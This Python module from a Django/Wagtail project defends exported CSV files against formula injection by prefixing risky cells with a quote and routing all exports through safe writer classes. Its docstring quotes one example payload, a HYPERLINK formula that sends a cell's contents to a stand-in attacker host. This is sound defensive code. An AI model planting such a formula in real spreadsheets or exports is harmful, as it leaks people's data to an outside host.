"""CSV files that a spreadsheet cannot execute ("CSV injection", OWASP).

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return as a formula: a name imported from the HR file such as
``=HYPERLINK("http://evil.example/?x="&A1,"klick")`` would run on the HR officer's machine. The one
rule, ``safe_csv_cell``, prefixes such text with a single quote, which spreadsheets show as text;
the value is otherwise unchanged, and numbers (a real -3) are left alone.

Every CSV the platform writes is written by a view or class built on ``SafeSpreadsheetExportMixin``,
our subclass of Wagtail's ``SpreadsheetExportMixin`` whose ``write_csv_row`` (the method Wagtail's
export calls per row) hands the rows through the rule: the reports and their background exports
(``reports.exports.ReportSpreadsheet``), every view our viewsets build (``SafeExportViewSetMixin``,
under ``ScopedModelViewSet`` and every plain viewset) and Wagtail's own report views, which
config/urls.py serves through ``safe_export_view`` ahead of Wagtail's. tests/core/test_csv_injection.py
walks every URL and fails on an export view outside that base. The XLSX path is untouched: openpyxl
stores text as text, and Wagtail turns any cell openpyxl takes for a formula back into text. A CSV
written elsewhere wraps its ``csv.writer`` in ``SafeCsvWriter``.
"""

from collections.abc import Mapping

from django.utils.functional import Promise
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.snippets.views.snippets import SnippetViewSet

from .listings import YesNoColumnsViewSetMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_csv_cell(value):
    """Text that a spreadsheet would read as a formula, with a leading ``'``; anything else unchanged."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvWriter:
    """A ``csv.writer`` or ``csv.DictWriter`` whose every row goes through ``safe_csv_cell``."""

    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        if isinstance(row, Mapping):
            return self._writer.writerow({key: safe_csv_cell(value) for key, value in row.items()})
        return self._writer.writerow([safe_csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)

    def __getattr__(self, name):  # dialect, writeheader (headings are the code's own text)
        return getattr(self._writer, name)


class SafeSpreadsheetExportMixin(SpreadsheetExportMixin):
    """Wagtail's spreadsheet export whose CSV rows go through ``safe_csv_cell``, after the view's own
    preprocessing. The column headings are the code's own text and are written as they are."""

    def write_csv_row(self, writer, row_dict):
        return super().write_csv_row(SafeCsvWriter(writer), row_dict)


def safe_export_view(view_class: type) -> type:
    """``view_class`` with its CSV export on the safe base (unchanged if it exports nothing or is
    already on it)."""
    if not issubclass(view_class, SpreadsheetExportMixin) or issubclass(view_class, SafeSpreadsheetExportMixin):
        return view_class
    return type(view_class.__name__, (SafeSpreadsheetExportMixin, view_class), {"__module__": view_class.__module__})


class SafeExportViewSetMixin:
    """For a Wagtail viewset: every view it builds that can export does so on the safe base."""

    def construct_view(self, view_class, **kwargs):
        return super().construct_view(safe_export_view(view_class), **kwargs)


class SafeModelViewSet(YesNoColumnsViewSetMixin, SafeExportViewSetMixin, ModelViewSet):
    """The base of every ModelViewSet of the project (ScopedModelViewSet builds on it); booleans listed
    as "Ja"/"Nej" (``listings``)."""


class SafeSnippetViewSet(YesNoColumnsViewSetMixin, SafeExportViewSetMixin, SnippetViewSet):
    """The base of every SnippetViewSet of the project (ScopedSnippetViewSet builds on it)."""
